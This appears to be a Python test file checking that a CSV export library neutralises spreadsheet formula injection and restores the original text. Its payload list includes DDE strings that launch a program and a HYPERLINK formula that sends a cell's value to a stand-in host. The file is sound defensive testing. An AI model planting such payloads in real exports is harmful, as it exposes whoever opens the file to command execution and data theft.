"""No cell starts as a formula, and every text comes back."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from libs.common.exports.formula import neutral, restored
from libs.common.exports.rows import Column, CsvRows

ACTIVE = "=+-@\t\r\n\x00\uff1d\uff0b\uff0d\uff20\u2212"
PAYLOADS = [
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "-2+3+cmd|' /C calc'!D2", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1",
    "\r=1+1", "\n=1+1", "\x00=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)", " =1+1", "   +1", "\u00a0=1",
    "\ufeff=1", "\u200b=1", "\u2003-1", "'=1+1", "''", "'", '=HYPERLINK("http://x.example/?"&A1,"x")', '"=1"', "=", "+",
    "-", "@", "\t", "\r", "\n", "=1;2", "=1,2", "=1\n2", "-1", "+49 30 1234", "@ada", "=IMPORTXML(CONCAT(1))",
    "\u22121", "%0A-3+3", "=\x001",
]  # fmt: skip
ORDINARY = [
    "",
    "theme",
    "admin@example.com",
    "a=b",
    "1-2",
    "2026-01-31T12:00:00Z",
    "/reeve/gateway",
    '{"a":-1}',
    "ü",
    " x",
]


def test_there_are_forty_payloads() -> None:
    assert len(set(PAYLOADS)) >= 40


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_becomes_a_text_and_comes_back(payload: str) -> None:
    [_, [cell]] = list(csv.reader(io.StringIO(_csv(payload), newline="")))
    assert not cell.lstrip(" \u00a0\ufeff\u200b\u2003")[:1] or cell.lstrip(" \u00a0\ufeff\u200b\u2003")[0] not in ACTIVE
    assert restored(cell) == payload


@pytest.mark.parametrize("text", ORDINARY)
def test_an_ordinary_text_stays_as_it_is(text: str) -> None:
    assert neutral(text) == text


@given(st.text())
def test_every_text_comes_back_and_none_is_active(text: str) -> None:
    cell = neutral(text)
    assert restored(cell) == text
    assert cell.strip()[:1] not in tuple(ACTIVE.strip())
    assert cell[:1] not in tuple(ACTIVE)


@given(st.text(alphabet=st.characters(exclude_categories=["Cs"])))
def test_a_line_holds_any_text(text: str) -> None:
    [_, [cell]] = list(csv.reader(io.StringIO(_csv(text), newline="")))
    assert restored(cell) == text


def test_no_value_and_an_empty_text_differ() -> None:
    rows = CsvRows([Column("a", "text"), Column("b", "text"), Column("c", "integer")])
    assert rows([(None, "", -5)]) == b',"","-5"\r\n'
    assert rows([("", None, 1), ("=x", "b", 1), ("", None, None)]) == b'"",,"1"\r\n"\'=x","b","1"\r\n"",,\r\n'
    assert rows([]) == b""


def _csv(text: str) -> str:
    rows = CsvRows([Column("a", "text")])
    return (rows.head + rows([(text,)])).decode()
